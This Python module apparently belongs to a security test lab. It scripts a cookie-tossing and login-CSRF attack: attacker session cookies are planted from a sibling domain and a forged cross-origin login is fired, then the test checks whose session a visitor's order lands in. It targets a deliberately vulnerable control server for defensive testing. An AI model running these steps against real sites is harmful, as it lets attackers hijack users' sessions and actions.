"""Cookie tossing and login CSRF: a visitor is put into the attacker's session, and works there unawares."""

from urllib.parse import urlencode

from loadtests.attacks.browser_attack import BrowserAttack
from loadtests.attacks.in_browser.forgeries import log_in
from loadtests.attacks.in_browser.play import Play, User, kept
from loadtests.attacks.laboratory.condition import Control
from loadtests.attacks.laboratory.lab import AttackResult, Person
from loadtests.browser.listeners import SET_COOKIES
from loadtests.browser.origins import ELSEWHERE, NAMES, SIBLING, VICTIM

_PATHS = ("/", "/orders")
"""The longer one comes first in what a browser sends."""


class TossedCookie(BrowserAttack):
    """Set the attacker's cookies from a sibling, and log in as the attacker from elsewhere; then let the
    visitor order something: whose order is it?
    """

    row = "B7"
    name = "cookie tossing and login CSRF"
    question = "Can a sibling, or another site, put a visitor into the attacker's session?"
    sources = (
        "OWASP ASVS 5.0 3.3.3",
        "OWASP ASVS 5.0 3.5.1",
        "draft-ietf-httpbis-rfc6265bis section 8.6",
        "OWASP CSRF Prevention: Login CSRF",
    )
    control = Control("servers.vulnerable.cookies.unprefixed_cookie:VulnerableUnprefixedCookie")

    def attack(self, play: Play) -> AttackResult:
        attacker = play.person()
        play.lab.log_in(attacker)
        victim = play.logged_in()
        play.check_before(victim)
        _toss(play, attacker)
        play.ordered_as("cookies of a sibling over those of a login", attacker, victim)
        visitor = _fresh(play)
        _toss(play, attacker)
        play.ordered_as("cookies of a sibling before a login", attacker, visitor)
        for origin, whose in ((SIBLING, "a sibling"), (ELSEWHERE, "another site")):
            visitor = _fresh(play)
            mark = play.scene.arrivals.now()
            log_in(play.scene, origin, attacker)
            reached = any(each.path == "/login" for each in play.scene.arrivals.since(mark, VICTIM))
            play.ordered_as(f"a login by a form of {whose}", attacker, visitor, reached=reached)
        play.scene.clear()
        play.check_after(play.logged_in())
        return play.result()


def _fresh(play: Play) -> User:
    play.scene.clear()
    return play.user()


def _toss(play: Play, attacker: Person) -> None:
    """The attacker's cookies for the whole site, from a sibling's own server and from its script."""
    domain = NAMES[0]
    pairs = [pair for pair in attacker.credential.get("Cookie", "").split("; ") if pair]
    pairs = pairs or [f"sid={attacker.credential.get('Authorization', '').partition(' ')[2]}"]
    lines = [f"{pair}; Domain={domain}; Path={path}; Secure" for pair in pairs for path in _PATHS]
    with play.scene.page_of(SIBLING) as page:
        for line in lines:
            page.evaluate("(line) => elsewhere.plant(line)", line)
        page.evaluate("(text) => localStorage.setItem('tokens', text)", kept(attacker))
        page.goto(f"{SIBLING}{SET_COOKIES}?{urlencode([('line', f'{line}; HttpOnly') for line in lines])}")
